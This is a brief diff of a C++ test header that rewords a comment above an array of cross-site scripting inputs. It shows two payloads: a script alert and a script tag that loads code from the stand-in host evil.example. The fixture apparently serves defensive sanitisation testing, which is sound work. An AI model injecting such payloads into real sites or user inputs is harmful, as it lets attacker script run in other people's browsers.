@@ -2,7 +2,7 @@
 
 namespace test {
 
-// What people write into texts to have it run in somebody else's browser.
+// Cross-site scripting: texts whose author wants them to run as script in a reader's browser.
 inline constexpr const char* xss_inputs[] = {
     "<script>alert(1)</script>",
     "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
